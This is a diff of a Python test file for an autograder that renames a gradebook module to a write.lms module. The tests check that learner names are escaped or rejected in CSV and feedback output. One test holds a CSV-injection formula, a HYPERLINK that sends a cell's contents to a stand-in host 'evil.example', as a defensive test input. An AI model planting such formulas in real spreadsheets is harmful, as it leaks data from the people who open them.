@@ -106,16 +106,16 @@ def test_a_name_that_is_a_formula_is_a_cell_in_canvas_csv(tmp_path, monkeypatch,
 
 
 def test_a_formula_name_from_the_export_is_escaped_where_canvas_shows_it(tmp_path):
-    from autograder.classroom import gradebook
+    from autograder.classroom.write import lms
     from autograder.inert import LearnerText
 
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"100")'
-    text = gradebook.canvas_csv([{"ids": {"Student": LearnerText(hostile, "name"),
+    text = lms.canvas_csv([{"ids": {"Student": LearnerText(hostile, "name"),
                                           "SIS User ID": LearnerText("100", "sid")}, "score": 5.0}], "HW", 10)
     cells = list(csv.reader(io.StringIO(text)))[2]
     assert cells[0] == "'" + hostile and cells[2] == "100"
     with pytest.raises(TypeError):  # a plain str where learner text belongs
-        gradebook.canvas_csv([{"ids": {"Student": hostile}, "score": 5.0}], "HW", 10)
+        lms.canvas_csv([{"ids": {"Student": hostile}, "score": 5.0}], "HW", 10)
 
 
 def test_a_thousand_nested_folders_are_that_learners_row(tmp_path, monkeypatch, capsys):
@@ -244,7 +244,7 @@ def test_the_feedback_holds_no_hidden_case_input_from_an_exception(tmp_path, mon
 def test_every_writer_refuses_a_plain_str_where_learner_text_belongs(tmp_path):
     """The type, not a review, keeps raw learner text out: each writer of a learner's text takes
     it only as LearnerText (a plain str raises), and LearnerText has no plain str()."""
-    from autograder.classroom import classfiles, feedback, gradebook, runs, summary
+    from autograder.classroom.write import classfiles, feedback, lms, runs, summary
     from autograder.inert import LearnerText
 
     text = LearnerText("=x\x1b[2J", "test")
@@ -261,7 +261,7 @@ def test_every_writer_refuses_a_plain_str_where_learner_text_belongs(tmp_path):
         with pytest.raises(TypeError):
             classfiles.grades_csv([dict(row, **{key: "=x"})], {"x": report})
     with pytest.raises(TypeError):
-        gradebook.canvas_csv([{"ids": {"Student": "=x"}, "score": 1.0}], "HW", 5)
+        lms.canvas_csv([{"ids": {"Student": "=x"}, "score": 1.0}], "HW", 5)
     with pytest.raises(TypeError):
         feedback.to_markdown("x", report, row, "HW")
     with pytest.raises(TypeError):
